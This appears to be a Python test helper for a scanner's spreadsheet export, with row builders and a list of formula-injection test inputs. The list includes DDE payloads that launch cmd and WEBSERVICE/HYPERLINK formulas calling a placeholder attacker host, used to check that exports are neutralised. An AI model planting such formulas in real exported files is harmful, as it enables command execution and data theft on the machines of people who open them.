"""Rows of every kind, with texts of any sort, and what lies in a record."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa

from scanner.report.export.columns import Kind, Type
from scanner.report.export.formats import writer_of
from scanner.report.export.spool import Spool, spool

MOMENT = datetime(2026, 11, 20, 12, 0, 0, 123456, tzinfo=UTC)
LURES = (
    *("=1+1", "+62811", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\0=1+1", " =1+1", '"=1+1', '" =1+1', "'=1+1"),
    *("＝1+1", "＋1", "－1", "＠SUM(A1)", "\n=1+1", "=1+1;2", "sari;=1+1", "sari,=1+1", "sari\t=1+1", "sari|=1+1"),
    *('=HYPERLINK("http://jahat.example";"klik")', "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "{=1+1}"),
    *('=WEBSERVICE("http://jahat.example")', '=IMPORTXML(A1,"//a")', "@import", "-1+1|cmd", "+1+1|cmd", "=A1&A2"),
    *('sari";"=1+1', 'sari;"=1+1', "sari\n=1+1", "sari\r\n=1+1", "\u00a0=1+1", "\ufeff=1+1", "=\t1", "==1", "--1"),
    *("http://jahat.example/", "mailto:a@jahat.example", "0812-3456", "1e5", "2026-11-21", "TRUE"),
)
"""What spreadsheets may take for a formula, a link, a number or a date."""


def row_of(kind: Kind, **values: Any) -> dict[str, Any]:
    """Return a row with a value in every column."""
    shown: dict[Type, Any] = {
        Type.TEXT: "kata",
        Type.WHOLE: 7,
        Type.NUMBER: 0.1,
        Type.YES_NO: True,
        Type.MOMENT: MOMENT,
        Type.JSON: '["A"]',
    }
    return {column.name: shown[column.type] for column in kind.columns} | values


def spooled(folder: Path, kind: Kind, rows: Sequence[dict[str, Any]]) -> Spool:
    return spool(folder / "rows", kind, [pa.Table.from_pylist(list(rows), schema=kind.schema)])


def written(folder: Path, kind: Kind, rows: Sequence[dict[str, Any]], form: str, encoding: str = "utf-8") -> Path:
    path = folder / f"{kind.name}.{form}"
    writer_of(form)(path, spooled(folder, kind, rows), encoding=encoding)
    return path
